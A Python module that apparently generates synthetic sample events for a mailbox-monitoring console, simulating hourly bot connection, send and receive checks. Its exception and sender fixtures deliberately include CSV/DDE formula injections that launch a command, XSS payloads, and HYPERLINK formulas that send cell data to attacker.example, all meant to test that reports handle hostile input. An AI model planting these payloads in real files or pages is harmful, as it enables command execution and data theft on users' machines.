"""What the bots observed in the 36 hours before the nominal time.

Every bot runs once an hour over its share of the mailboxes and registers, for each, whether it could connect,
send itself a mail, and receive it. A failed connection is followed by nothing, a failed send by no receive,
and a failed receive knows neither where the mail came from nor who took it (it never came).
"""

import json
from collections.abc import Iterator
from datetime import datetime, timedelta
from itertools import cycle
from random import Random
from zoneinfo import ZoneInfo

from services.console.sample_data.randomness import random_uuid, stream
from services.console.sample_data.rows import Event, EventMail
from services.console.sample_data.topology import BotHost, Health, Mailbox, Topology

Observation = tuple[Event, EventMail | None]

_PERIOD = timedelta(hours=36)
_RUN_EVERY = timedelta(hours=1)
#: What was lost was lost this long before the nominal time, well outside the window of the reports.
_LOST_SINCE = timedelta(hours=20)
#: Runs of different bots start apart, the youngest this long before the nominal time; none is still going on.
_FIRST_START = timedelta(minutes=8)
_NEXT_START = timedelta(minutes=3)
_HICCUP = 0.015

_LOCAL = ZoneInfo("America/Vancouver")
_ACCOUNT = "PHSABC\\svc_exchangebot"
_WITNESS = "exchange.witness@vch.ca"

#: Texts as servers, proxies and people with bad intentions produce them; reports have to survive all of them.
EXCEPTIONS = (
    "ErrorTimeoutExpired: The request timed out.",
    'ErrorMailboxStoreUnavailable: the mailbox database "db" is temporarily unavailable, try again later',
    "=cmd|' /C calc'!A0",
    "<script>alert('mailroom')</script>",
    'Traceback (most recent call last):\n  File "mailer.py", line 710, in send\nTransportError: 503',
    "+1+1@SUM(1+9)*cmd|' /C calc'!A0",
    "Délai d'attente dépassé \N{EM DASH} 接続できません",
    '@HYPERLINK("http://attacker.example/?x="&A1,"click")',
    '-2+3\tand a tab; a semicolon, a comma and "quotes"\r\nand a second line',
    "</td></tr></table><img src=x onerror=alert(1)>",
)

#: Display names that found their way into the columns the reports show.
ODD_SENDERS = (
    "svc_exchangebot@phsa.ca",
    '"O\'Brien, Zoë" <svc_exchangebot@phsa.ca>',
    '=HYPERLINK("http://attacker.example","svc_exchangebot@phsa.ca")',
    "<b>svc_exchangebot</b>@phsa.ca",
    "+svc_exchangebot@phsa.ca",
)


def observations(topology: Topology, seed: int, scale: float, now: datetime) -> Iterator[Observation]:
    """Every event of the period, with its mail for sends and receives.

    Args:
        topology: what is watched, and in which health it is.
        seed: of the repeatable randomness.
        scale: how many times an hour every bot runs.
        now: the nominal time; every event is older.
    """
    shares = topology.shares()
    for index, bot in enumerate(topology.bots):
        observer = _Observer(bot, stream(seed, f"events of {bot.host_name}"), now, first_exception=index)
        for start in _run_starts(bot, index, scale, now):
            yield from observer.run(start, shares[bot.host_name])


def _run_starts(bot: BotHost, index: int, scale: float, now: datetime) -> Iterator[datetime]:
    """When the runs of a bot start, youngest first; a silent bot has none since it fell silent."""
    start = now - _FIRST_START - index * _NEXT_START
    while start > now - _PERIOD:
        if not bot.silent or start < now - _LOST_SINCE:
            yield start
        start -= _RUN_EVERY / scale


class _Observer:
    """One bot, and what it registers."""

    def __init__(self, bot: BotHost, random: Random, now: datetime, first_exception: int) -> None:
        self._bot = bot
        self._random = random
        self._now = now
        start = first_exception % len(EXCEPTIONS)
        self._exceptions = cycle(EXCEPTIONS[start:] + EXCEPTIONS[:start])

    def run(self, start: datetime, mailboxes: tuple[Mailbox, ...]) -> Iterator[Observation]:
        """Everything the bot registers in one run, in order of time for each mailbox."""
        group = f"{self._bot.site or 'no_site'}+{self._bot.host_name}+{start.astimezone(_LOCAL).isoformat()}"
        if self._random.random() < _HICCUP:
            yield self._event(group, start, "configuration", None, "no valid account", failed=True), None
            return
        for number, box in enumerate(mailboxes):
            if Health.RETIRED not in {box.health, box.server.health}:
                yield from self._test(group, start + number * timedelta(seconds=3), box)

    def _test(self, group: str, at: datetime, box: Mailbox) -> Iterator[Observation]:
        account = f"{_ACCOUNT}, {box.address}"
        failed = self._fails(at, box, never=Health.UNREACHABLE, lately=Health.LOST)
        said = "cannot connect to exchange" if failed else "connected to exchange"
        yield self._event(group, at, "connection", account, said, failed=failed), None
        if not failed:
            yield from self._send(group, at + timedelta(seconds=40), box)

    def _send(self, group: str, at: datetime, box: Mailbox) -> Iterator[Observation]:
        failed = self._fails(at, box, never=Health.MUTE, lately=None)
        said = "cannot send message" if failed else "monitoring message sent"
        event = self._event(group, at, "send", box.address, said, failed=failed)
        sent_to = f"{box.address}, {_WITNESS}" if self._random.random() < _HICCUP else box.address
        mail = EventMail(event.uuid, str(random_uuid(self._random)), box.address, sent_to)
        yield event, mail
        if not failed:
            yield self._receive(group, at, box, mail)

    def _receive(self, group: str, sent_at: datetime, box: Mailbox, sent: EventMail) -> Observation:
        at = sent_at + timedelta(seconds=self._random.randrange(5, 120))
        failed = self._fails(at, box, never=None, lately=Health.DEAF)
        event = self._event(group, at, "receive", box.address, "message received", failed=failed)
        mail = sent._replace(event=event.uuid)
        if failed:
            return event, mail
        received_from = ODD_SENDERS[0]
        if self._random.random() < _HICCUP:
            received_from = self._random.choice(ODD_SENDERS)
        return event, mail._replace(
            received_from=received_from,
            received_by=box.address,
            created=sent_at - timedelta(seconds=1),
            sent=sent_at,
            received=at,
        )

    def _fails(self, at: datetime, box: Mailbox, *, never: Health | None, lately: Health | None) -> bool:
        healths = {box.health, box.server.health}
        lost = lately in healths and at > self._now - _LOST_SINCE
        return never in healths or lost or self._random.random() < _HICCUP

    def _event(
        self, group: str, at: datetime, kind: str, account: str | None, said: str, *, failed: bool
    ) -> Event:
        status = "FAIL" if failed else "PASS"
        exception = next(self._exceptions) if failed else None
        raw = {"type": kind, "status": status, "wm_id": group, "account": account, "message": said}
        return Event(
            uuid=random_uuid(self._random),
            bot=self._bot.host_name,
            event_group_id=group,
            status=status,
            type=kind,
            mail_account=account,
            message=said,
            exception=exception,
            body=json.dumps(raw | {"exception": exception}),
            registered_on=at,
        )
